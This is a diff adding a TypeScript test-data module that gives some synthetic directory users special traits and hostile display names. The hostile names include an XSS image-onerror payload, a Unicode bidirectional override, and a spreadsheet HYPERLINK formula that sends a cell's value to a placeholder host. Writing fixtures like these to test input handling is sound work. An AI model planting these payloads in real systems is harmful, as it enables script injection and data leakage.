@@ -1,0 +1,41 @@
+/** What is special about some users: every n-th one, so that small directories have their share too. */
+
+const TRAITS = {
+  guest: [31, 5],
+  disabled: [23, 11],
+  withoutExchange: [19, 9],
+  lapsed: [41, 3],
+  movedPlan: [43, 4],
+  withoutMail: [37, 15],
+  capitalizedAddress: [29, 2],
+  aliased: [3, 1],
+  withoutCreation: [7, 6],
+  markup: [211, 17],
+  bidirectional: [211, 29],
+  formula: [211, 43],
+  long: [211, 61],
+  emoji: [211, 83],
+} as const;
+
+export type Trait = keyof typeof TRAITS;
+
+/** Whether the user of that ordinal has the trait. */
+export function hasTrait(ordinal: number, trait: Trait): boolean {
+  const [every, offset] = TRAITS[trait];
+  return ordinal % every === offset;
+}
+
+/** Display names that a careless reader would run, reverse, compute or overflow with. */
+const HOSTILE_NAMES: readonly (readonly [Trait, (name: string) => string])[] = [
+  ['markup', (name) => `${name} <img src=x onerror=alert(document.domain)>`],
+  ['bidirectional', (name) => `\u202E${name}\u202C \u2066(finance)\u2069`],
+  ['formula', (name) => `=HYPERLINK("https://example.invalid/?q="&A1,"${name}")`],
+  ['long', (name) => `${name} `.repeat(64).slice(0, 256)],
+  ['emoji', (name) => `${name} 👩🏽‍🚀🏳️‍🌈`],
+];
+
+/** The display name with whatever is wrong about it. */
+export function disguise(ordinal: number, name: string): string {
+  const hostile = HOSTILE_NAMES.find(([trait]) => hasTrait(ordinal, trait));
+  return hostile ? hostile[1](name) : name;
+}
